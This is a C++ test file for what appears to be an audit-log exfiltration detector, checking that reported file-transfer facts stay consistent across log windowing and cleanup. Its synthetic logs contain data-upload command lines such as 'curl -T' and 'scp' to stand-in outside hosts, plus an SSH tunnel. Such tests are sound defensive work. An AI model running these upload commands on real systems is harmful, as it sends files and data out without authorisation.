#include <set>
#include <sstream>

#include "host_with_cron.hpp"
#include "paused.hpp"

/// When an invocation's last process is gone it is packed; what is told of it must not depend on
/// when that was.
namespace auexfil::test {
namespace {

/// Jobs of many kinds, over and over, between a daemon and a person that stay.
CronHost busy_host(int rounds) {
  CronHost log;
  log.daemon(320, "/usr/sbin/vsftpd");
  log.socket(320, 4);
  log.bind(320, 4, "0.0.0.0", 21);
  log.listen(320, 4);
  const int person = log.person(CronHost::kSshd, 340, 900);
  log.run(person, 360, "/usr/bin/curl", {"curl", "-T", "f", "http://198.51.100.7/"});
  log.tcp(360, 3, kOther, 80);
  for (int round = 0; round < rounds; ++round) {
    const int scp = log.tool("/usr/bin/scp", {"scp", "f", "203.0.113.9:up/"});
    const int ssh = log.ssh_child(scp, CronHost::sftp_argv("203.0.113.9"), kDrop);
    log.upload(ssh, 3, 5000 + round);
    log.done(ssh);
    log.exit(scp);
    const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"}, 33);
    log.tcp(curl, 3, kDrop, 80);
    log.send(curl, 3, 100 * round + 1);
    if (round % 3 != 0) {
      log.done(curl);  // else it hangs for ever
    }
    log.call(320, "accept", 7, {4, 0x7f, 0x7f},
             {"SOCKADDR saddr=" + saddr("192.0.2." + std::to_string(round % 5 + 1), 40000)});
    log.write(320, 7, 50 + round);
    log.close(320, 7);
    const int script = log.job("/opt/push");
    log.exec(script, "/usr/bin/python3", {"python3", "/opt/push"}, "/opt/push");
    for (int peer = 0; peer < 3; ++peer) {
      log.tcp(script, 3, "203.0.113." + std::to_string(20 + peer), 443);
      log.write(script, 3, 1000);
      log.close(script, 3);
    }
    log.exit(script);
  }
  log.send(360, 3, 150);
  return log;
}

/// The lines of facts, and when each ends.
std::map<std::string, std::string> ends_of_facts(const std::string& told) {
  std::map<std::string, std::string> facts;
  std::istringstream lines(told);
  const std::string key = "\"end\":\"";
  for (std::string line; std::getline(lines, line);) {
    const std::size_t at = line.find(key);
    if (line.starts_with("{\"type\":\"transfer\"") && at != std::string::npos) {
      facts[line] = line.substr(at + key.size(), sizeof "2026-12-02T01:02:04.870Z" - 1);
    }
  }
  return facts;
}

}  // namespace

TEST_CASE("closing: what was over by then is forgotten between runs, all else is told the same") {
  const std::vector<Piece> pieces{{busy_host(40).text(), 0, true}};
  Follower::Options options;
  options.assembler.window_events = 64;
  const std::map<std::string, std::string> whole = ends_of_facts(told_in_one_run(pieces, options));
  const std::vector<std::size_t> cuts = cuts_of(pieces, 5);
  std::set<std::string> ends;
  for (const auto& [fact, end] : whole) {
    ends.insert(end);
  }
  REQUIRE(ends.size() > 100);
  std::size_t forgotten = 0;
  std::size_t skip = 0;
  for (const std::string& end : ends) {
    if (++skip % 7 != 0) {
      continue;
    }
    options.forgets_before = audit::parse_rfc3339(end).value();
    const std::map<std::string, std::string> left =
        ends_of_facts(told_in_runs(pieces, cuts, options));
    INFO("forgets before " << end);
    CHECK(std::includes(whole.begin(), whole.end(), left.begin(), left.end()));
    for (const auto& [fact, its_end] : whole) {
      INFO(fact);
      CHECK((left.contains(fact) || its_end < end));
    }
    forgotten += whole.size() - left.size();
  }
  CHECK(forgotten > 20);
}

TEST_CASE("closing: facts are the same however early invocations are packed") {
  const CronHost log = busy_host(40);
  transfer::TransferBuilder::Options at_the_end;
  at_the_end.open_invocations = 1U << 20U;
  const std::vector<facts::Fact> whole = tell_host(log.text(), {}, at_the_end).facts;
  REQUIRE(whole.size() > 120);
  for (const std::size_t open : {std::size_t{1}, std::size_t{2}, std::size_t{7}, std::size_t{50}}) {
    transfer::TransferBuilder::Options early;
    early.open_invocations = open;
    CHECK(tell_host(log.text(), {}, early).facts == whole);
  }
}

TEST_CASE("closing: facts are the same where connections are not in the log") {
  CronHost log("",
               [](const Called& call) { return call.name == "execve" || call.name == "clone"; });
  for (int i = 0; i < 30; ++i) {
    log.exit(log.tool("/usr/bin/scp", {"scp", "f", fmt::format("203.0.113.{}:up/", i + 1)}));
  }
  transfer::TransferBuilder::Options early;
  early.open_invocations = 1;
  const std::vector<facts::Fact> facts = tell_host(log.text(), {}, early).facts;
  CHECK(facts == tell_host(log.text()).facts);
  CHECK(facts.size() >= 30);
}

TEST_CASE("closing: what is over does not stay") {
  CronHost log;
  log.tcp(CronHost::kCron, 12, kOther, 80, -111);  // connections are audited
  for (int i = 0; i < 5000; ++i) {
    const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
    log.tcp(curl, 3, kDrop, 80);
    log.send(curl, 3, 100);
    log.done(curl);
    log.exit(curl - 1);
  }
  std::size_t most = 0;
  transfer::TransferBuilder builder(rules().tools, rules().signs);
  host::Tracker tracker({}, builder);
  builder.attach(tracker);
  each_event(log.text(), [&](const audit::Event& event) {
    tracker.take(event);
    most = std::max(most, builder.open_runs());
  });
  CHECK(most < 1000);
  tracker.finish();
  builder.close();
  CHECK(builder.open_runs() == 0);
  std::size_t facts = 0;
  facts::HostName name;
  name.file_name = [](std::uint32_t) { return std::string("audit.log"); };
  test::Taking taking([&](const facts::Fact&) { ++facts; });
  facts::make_facts(builder, name, coverage::visibility_of(tracker.tally()), nullptr, taking);
  CHECK(facts == 5000);
}

TEST_CASE("closing: names of programs that a connection asks for outlive a sweep of strings") {
  host::Tracker::Options options;
  options.max_string_bytes = 1 << 18;
  transfer::TransferBuilder::Options early;
  early.open_invocations = 1;
  CronHost log;
  const int curl = log.tool("/usr/local/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 100);
  log.send(curl, 3, 100'000);
  log.done(curl);
  log.exit(curl - 1);
  // Of these no close is in the log; whether curl's are tells how sure its sum is.
  for (int i = 0; i < 8000; ++i) {
    const std::string exe = fmt::format("/opt/{:040}", i);
    log.run(CronHost::kCron, 50'000 + i, exe, {exe, fmt::format("{:060}", i)});
    log.tcp(50'000 + i, 3, kDrop, 1024 + i % 7);
    log.write(50'000 + i, 3, 4000);
    log.exit(50'000 + i);
  }
  const Told told = tell_host(log.text(), options, early);
  REQUIRE(told.facts.size() > 100);
  CHECK(told.facts.front().process.exe == "/usr/local/bin/curl");
  CHECK(sum(told.facts.front()) == "out 100100 measured");
}

TEST_CASE("closing: of two masters one after the other at one path, the job is the later one's") {
  CronHost log;
  for (int turn = 0; turn < 2; ++turn) {
    const int at = 2000 + 100 * turn;
    const int shell = log.job("ssh -fMN -S /run/mux 203.0.113.9");
    log.run(shell, at, "/usr/bin/ssh", {"ssh", "-fMN", "-S", "/run/mux", "203.0.113.9"});
    log.tcp(at, 3, kDrop, 22);
    log.socket(at, 4, 1, 1);
    log.bind_local(at, 4, fmt::format("/run/mux.{}", turn == 0 ? "zzzz" : "aaaa"));
    const int client = log.tool(
        "/usr/bin/ssh", {"ssh", "-S", "/run/mux", "203.0.113.9", turn == 0 ? "first" : "second"});
    log.socket(client, 3, 1, 1);
    log.local(client, 3, "/run/mux");
    log.done(client);
    log.upload(at, 3, 100'000);
    if (turn == 0) {
      log.close(at, 4);
      log.done(at);
    }
  }
  const auto facts = to(tell(log), kDrop);
  REQUIRE(facts.size() == 2);
  CHECK(has_note(facts[0], "first"));
  CHECK_FALSE(has_note(facts[0], "second"));
  CHECK(has_note(facts[1], "second"));
  CHECK_FALSE(has_note(facts[1], "first"));
}

}  // namespace auexfil::test
